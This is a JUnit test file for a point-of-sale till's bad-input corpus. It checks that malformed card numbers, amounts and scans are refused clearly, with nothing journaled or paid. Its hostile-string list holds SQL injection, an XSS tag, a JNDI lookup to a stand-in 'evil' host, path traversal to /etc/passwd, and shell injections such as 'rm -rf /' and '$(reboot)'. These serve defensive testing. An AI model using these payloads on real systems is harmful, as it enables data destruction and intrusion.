package pos.app.sell;

import pos.app.checkout.CartRow;
import pos.app.checkout.CheckFailureRow;
import pos.app.checkout.CheckoutState;
import pos.app.checkout.FocusTarget;
import pos.app.checkout.MessageKind;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.Currency;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.ResourceBundle;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import pos.app.ui.MoneyFormat;
import pos.app.ui.TaskExecutor;
import pos.app.ui.UiThread;
import pos.core.card.Bank;
import pos.core.catalog.Catalog;
import pos.core.catalog.Product;
import pos.core.catalog.SaleUnit;
import pos.core.catalog.TaxClass;
import pos.core.catalog.VariableMeasureLayout;
import pos.core.money.Money;
import pos.core.rules.CardSpending;
import pos.core.rules.RuleBase;
import pos.core.rules.RuleBaseDefinition;
import pos.core.rules.RuleRegistry;
import pos.core.rules.RuleSpec;
import pos.core.sale.TransactionId;
import pos.sync.journal.SqliteSaleJournal;

/**
 * The bad-input corpus of the pre-verification work (issue 4): malformed card numbers, hostile
 * strings, huge, negative and non-numeric amounts, unicode tricks, typed into the card panel, the
 * cash panel and the scanner. Every case gets a clear message in the clerk's language (no raw keys,
 * no placeholders, no stack traces), nothing is written to the real SQLite journal, no payment is
 * sent, and the till keeps selling. Rule-data cases (broken JSON) are in pos-sync's RuleBaseJsonTest
 * and the distribution test.
 */
class BadInputCorpusTest {

    static final Currency EUR = Currency.getInstance("EUR");
    static final Product RADIO = new Product("3001", "4006381333931", "Radio", Money.ofMinor(2000, EUR),
            new TaxClass("STD", 2000), SaleUnit.PIECE, null, "electronics");
    static final Clock CLOCK = Clock.fixed(Instant.parse("2026-11-24T14:00:00Z"), ZoneId.of("Europe/Berlin"));
    static final String GOOD_CARD = "5555555555554444";

    @TempDir
    static Path dataDir;
    /** One real journal for the whole corpus (opening one per case would dominate the run time). */
    static SqliteSaleJournal journal;
    SellViewModel model;
    final List<String> paymentsSent = new ArrayList<>();

    static Map<String, Object> params(Object... kv) {
        Map<String, Object> m = new LinkedHashMap<>();
        for (int i = 0; i < kv.length; i += 2) {
            m.put((String) kv[i], kv[i + 1]);
        }
        return m;
    }

    @org.junit.jupiter.api.BeforeAll
    static void openJournal() {
        journal = SqliteSaleJournal.open(dataDir);
    }

    @org.junit.jupiter.api.AfterAll
    static void closeJournal() {
        journal.close();
    }

    @BeforeEach
    void setUp() {
        model = newModel(journal);
    }

    SellViewModel newModel(SqliteSaleJournal journal) {
        SellViewModel model = new SellViewModel(new Catalog(List.of(RADIO), VariableMeasureLayout.DEFAULT), journal, new FakeSyncMonitor(),
                new FakePaymentDesk(), new TransactionId.Generator(CLOCK), CLOCK, "till-7", EUR, new MoneyFormat(Locale.US),
                pos.app.i18n.Texts.forLocale(Locale.US), TaskExecutor.sameThread(), UiThread.sameThread());
        RuleBase rules = RuleRegistry.builtIn().compile(new RuleBaseDefinition(4,
                List.of(new Bank("HARBOUR", "Harbour Bank", List.of("555555"))),
                List.of(new RuleSpec("card.number", "card_number", params()),
                        new RuleSpec("payment.fields", "required_fields", params("fields", List.of("orderId", "payee", "amount"))),
                        new RuleSpec("sale.max", "max_amount", params("limit", 1_000_000)))));
        model.useRules(() -> rules, CardSpending.none(), "store-12");
        model.useCardPayments((attempt, amount, description, card, pin) -> {
            paymentsSent.add(attempt.value());
            throw new AssertionError("no payment may be sent for bad input");
        });
        return model;
    }

    @AfterEach
    void tillKeepsSellingAndNothingWasWritten() {
        assertThat(paymentsSent).isEmpty();
        assertThat(journal.count()).as("nothing journaled").isZero();
        model.backToCart();
        model.backToCart();
        assertThat(model.stateProperty().get()).isIn(CheckoutState.CART, CheckoutState.CASH);
    }

    static Stream<String> hostile() {
        List<String> s = new ArrayList<>(List.of(
                "", " ", "\t", "\n", "\r\n", "abc", "ABC123", "'; DROP TABLE journal;--", "\" OR 1=1 --", "<script>alert(1)</script>",
                "${jndi:ldap://evil/x}", "%s%s%s%n", "{0}{1}", "\\u0000", "\u0000", "\u0000123", "\u0007", "\u001b[31m",
                "\u202E1234", "\u202D4111", "1\u200B2", "\u200B", "\uFEFF12", "\u2066123\u2069", "１２３４", "٤١١١", "۴۱۱۱",
                "१२३", "①②③", "½", "¼", "Ⅻ", "😀", "💳4111", "\uD83D", "\uDC00", "ℕ", "𝟏𝟐𝟑", "١٢٣٫٤٥", "12\u0301",
                "0x1F", "0b101", "1e9", "1E-3", "NaN", "Infinity", "-Infinity", "null", "undefined", "true",
                "../../etc/passwd", "C:\\Windows", "|ls", "`rm -rf /`", "$(reboot)", "&amp;", "%00", "%2e%2e",
                "a".repeat(10_000), "9".repeat(100_000), "-".repeat(50), " ".repeat(500), "4".repeat(19) + "x",
                "1 2 3 4 5 6 7 8 9 0 1 2 3 4 5 6 7 8 9 0 1"));
        return s.stream();
    }

    static Stream<String> badCardNumbers() {
        List<String> s = new ArrayList<>(List.of(
                "4111111111111112", "411111111111111", "41111111111", "4111", "1", "41111111111111111111",
                "4111-1111-1111-111", "5555 5555 5555 4445", "0000000000000001", "1234567812345678",
                "-4111111111111111", "+4111111111111111", "4111.1111.1111.1111", "4111,1111,1111,1111",
                "4111111111111111\u0000", "４１１１１１１１１１１１１１１１", "4111111111111111\u200B",
                "\u202E1111111111111114", "4111111111111111 ", "4111\t1111\t1111\t1111", "4111/1111/1111/1111",
                "%B4111111111111111^DOE/JOHN^2512?", ";4111111111111111=2512?",
                // issue 11 defect 14: Luhn passes, but no card starts with 0 or repeats one digit
                "0000000000000000", "0000 0000 0000 0000", "0000000000000"));
        // every single-digit change of a valid number breaks its check digit
        for (int i = 0; i < GOOD_CARD.length(); i++) {
            char c = GOOD_CARD.charAt(i);
            s.add(GOOD_CARD.substring(0, i) + (char) ('0' + (c - '0' + 3) % 10) + GOOD_CARD.substring(i + 1));
        }
        return Stream.concat(s.stream(), hostile());
    }

    /**
     * Issue 11 defect 13: digits from a full-width input method (and mathematical digits, which NFKC
     * folds the same way) are the digits they look like, so these are amounts now, tested as such
     * below; every other hostile string stays a bad amount.
     */
    static final java.util.Set<String> READ_AS_DIGITS = java.util.Set.of("１２３４", "𝟏𝟐𝟑", "１０");

    static Stream<String> badCardAmounts() {
        return Stream.concat(Stream.of("20.01", "21", "1000000", "１２３４"), badAmounts().filter(a -> !CARD_PART_AMOUNTS.contains(a)));
    }

    /** Less than the €20 due once read as digits (spaces between digits are dropped): a card pays part of the sale. */
    static final java.util.Set<String> CARD_PART_AMOUNTS = java.util.Set.of("１０", "1 0", "１９．９９");

    @ParameterizedTest(name = "card amount [{index}] {0}")
    @org.junit.jupiter.params.provider.ValueSource(strings = {"１０", "1 0", "１９．９９", "２０"})
    @org.junit.jupiter.api.DisplayName("issue 11 defect 13: a card amount typed in full width is the amount it looks like")
    void aFullWidthCardAmountIsAnAmount(String amount) {
        model.handleScan(RADIO.gtin());
        model.card().open();
        model.card().typed(GOOD_CARD);
        model.card().cardAmountTextProperty().set(amount);
        model.card().check();
        assertThat(model.stateProperty().get()).isEqualTo(CheckoutState.CARD_PIN);
        assertThat(model.ruleCheck().rows()).isEmpty();
    }

    static Stream<String> badAmounts() {
        return Stream.concat(Stream.of("-1", "-0.01", "0", "0.00", "-0", "10.001", "1.234", "99999999999999999999",
                "9223372036854775807", "9223372036854775808", "-9223372036854775808", "1,000.00", "10,5,0", "10..5", ".", "-",
                "10 EUR", "€10", "EUR 10", "10€", "10$", "1 0", "+10", "0010.00.00", "10;DROP", "١٠", "１０", "１９．９９",
                "①②", "20²"), hostile().filter(s -> !READ_AS_DIGITS.contains(s)));
    }

    /**
     * A message the clerk can read: resolved from the bundle (no keys, no unfilled placeholders
     * unless the clerk typed them), no exception names.
     */
    static void assertClear(String text, String input) {
        assertThat(text).isNotBlank();
        if (!input.contains("{")) {
            assertThat(text).doesNotContain("{0}").doesNotContain("{1}");
        }
        assertThat(text).doesNotStartWith("rule.")
                .doesNotStartWith("card.").doesNotContain("Exception").doesNotContain("\u0000");
        assertThat(text.length()).as("short enough to read: %s", text.length()).isLessThan(400);
    }

    @ParameterizedTest(name = "card number [{index}]")
    @MethodSource("badCardNumbers")
    void aBadCardNumberIsRefusedWithAClearMessageAndNothingIsSent(String typed) {
        String typedText = typed;
        model.handleScan(RADIO.gtin());
        model.card().open();
        model.card().typed(typed);
        model.card().check();
        if (model.stateProperty().get() == CheckoutState.CARD_PIN) {
            // only when a valid number came before the first refused character (which was refused with a message);
            // full-width digits are the digits they look like (issue 11 defect 13)
            String kept = pos.core.text.NumericText.fold(typed).replaceAll("[ -]", "").replaceAll("^(\\d*).*$", "$1");
            assertThat(pos.core.card.CardNumber.typed(kept).isValid()).as("kept %s", kept.length()).isTrue();
            return;
        }
        assertThat(model.ruleCheck().visibleProperty().get()).isTrue();
        assertThat(model.ruleCheck().rows()).isNotEmpty().allSatisfy(row -> assertClear(row.reason(), typedText));
        assertThat(model.ruleCheck().rows()).anySatisfy(row -> assertThat(row.field()).isEqualTo(FocusTarget.CARD_NUMBER));
        assertThat(model.card().cardNumberTextProperty().get()).doesNotContain("4111111111111").doesNotContain("5555555555");
    }

    @ParameterizedTest(name = "card amount [{index}]")
    @MethodSource("badCardAmounts")
    void aBadCardAmountIsRefusedWithAClearMessageAndNothingIsSent(String amount) {
        String typedText = amount;
        model.handleScan(RADIO.gtin());
        model.card().open();
        model.card().typed(GOOD_CARD);
        model.card().cardAmountTextProperty().set(amount);
        model.card().check();
        assertThat(model.stateProperty().get()).isEqualTo(CheckoutState.CARD_ENTRY);
        assertThat(model.ruleCheck().rows()).isNotEmpty().allSatisfy(row -> assertClear(row.reason(), typedText));
        assertThat(model.ruleCheck().rows()).anySatisfy(row -> assertThat(row.field()).isEqualTo(FocusTarget.CARD_AMOUNT));
    }

    @ParameterizedTest(name = "cash received [{index}]")
    @MethodSource("badAmounts")
    void badCashIsRefusedWithAClearMessageAndNothingIsJournaled(String cash) {
        model.handleScan(RADIO.gtin());
        model.cash().open();
        model.cash().tenderedTextProperty().set(cash);
        model.cash().confirm();
        assertThat(model.stateProperty().get()).isEqualTo(CheckoutState.CASH);
        assertThat(model.messageKindProperty().get()).isEqualTo(MessageKind.ERROR);
        assertClear(model.messageProperty().get(), cash);
    }

    @ParameterizedTest(name = "scan [{index}]")
    @MethodSource("hostile")
    void aHostileScanIsRefusedWithAClearMessageAndTheCartIsUnchanged(String scan) {
        model.handleScan(scan);
        assertThat(model.cart().rows()).isEmpty();
        assertThat(model.messageKindProperty().get()).isEqualTo(MessageKind.ERROR);
        assertClear(model.messageProperty().get(), scan);
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @org.junit.jupiter.params.provider.CsvSource(textBlock = """
            ２０,          0.00
            '２０．００',  0.00
            １２３４,      '1,214.00'
            '５０。５',    30.50
            𝟏𝟐𝟑,           103.00
            '　２５　', 5.00
            """)
    @org.junit.jupiter.api.DisplayName("issue 11 defect 13: cash typed in a full-width input method is read as the digits it is")
    void fullWidthCashIsTheAmountItLooksLike(String cash, String change, @TempDir Path ownDir) {
        SqliteSaleJournal own = SqliteSaleJournal.open(ownDir);
        model = newModel(own);
        model.handleScan(RADIO.gtin());
        model.cash().open();
        model.cash().tenderedTextProperty().set(cash);
        model.cash().confirm();
        assertThat(model.stateProperty().get()).isEqualTo(CheckoutState.PAID);
        assertThat(model.cash().changeTextProperty().get()).contains(change);
        assertThat(own.count()).isEqualTo(1);
        model.cart().newSale();
        own.close();
    }

    @Test
    @org.junit.jupiter.api.DisplayName("issue 11 defect 14: a scan's hidden characters and a card number are never echoed as they are")
    void aScanIsEchoedWithoutHiddenCharactersOrACardNumber() {
        model.handleScan("‮4006381333931");
        assertThat(model.messageProperty().get()).doesNotContain("‮").contains("�4006381333931");
        model.handleScan("4111111111111111");
        assertThat(model.messageProperty().get()).doesNotContain("4111111111111111").contains("•••• 1111");
        assertThat(model.cart().rows()).isEmpty();
    }

    @Test
    void afterTheCorpusTheTillStillSellsForCash(@TempDir Path ownDir) {
        SqliteSaleJournal own = SqliteSaleJournal.open(ownDir);
        model = newModel(own);
        for (String bad : hostile().toList()) {
            model.handleScan(bad);
        }
        model.handleScan(RADIO.gtin());
        model.cash().open();
        model.cash().tenderedTextProperty().set("20");
        model.cash().confirm();
        assertThat(model.stateProperty().get()).isEqualTo(CheckoutState.PAID);
        assertThat(own.count()).isEqualTo(1);
        model.cart().newSale();
        own.close();
    }
}
